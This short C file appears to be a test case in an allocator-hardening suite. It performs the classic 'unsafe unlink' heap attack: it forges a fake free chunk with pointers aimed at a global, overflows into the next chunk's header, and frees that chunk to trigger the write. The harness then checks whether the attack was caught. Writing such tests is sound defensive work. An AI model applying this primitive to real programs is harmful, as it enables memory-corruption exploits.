/* "Unsafe unlink": a fake free chunk inside an object, and an overflow that makes the next object's header say so. Freeing
 * the next one writes to the pointer that points to the fake. Found when the object that ran over is freed. */
#include "attack.h"

static uint64_t *pointer;

int main(int argc, char **argv)
{
	begin();
	size_t n = argument(argc, argv, 1, 0x420);
	sow(n);
	int above = 0, lower = neighbours_in_field(&above);
	uint64_t *fake = (uint64_t *)(void *)field[lower];
	size_t gap = (size_t)(field[above] - field[lower]);
	pointer = fake;
	fake[0] = 0;
	fake[1] = gap - 16;
	fake[2] = (uint64_t)(uintptr_t)&pointer - 24;
	fake[3] = (uint64_t)(uintptr_t)&pointer - 16;
	uint64_t *header = (uint64_t *)(void *)(field[above] - 16);
	crime(field[lower]);
	header[0] = gap - 16;
	header[1] = gap;
	free(hide(field[above]));
	if (pointer != fake)
		return survived();
	free(hide(fake));
	return aftermath(n);
}
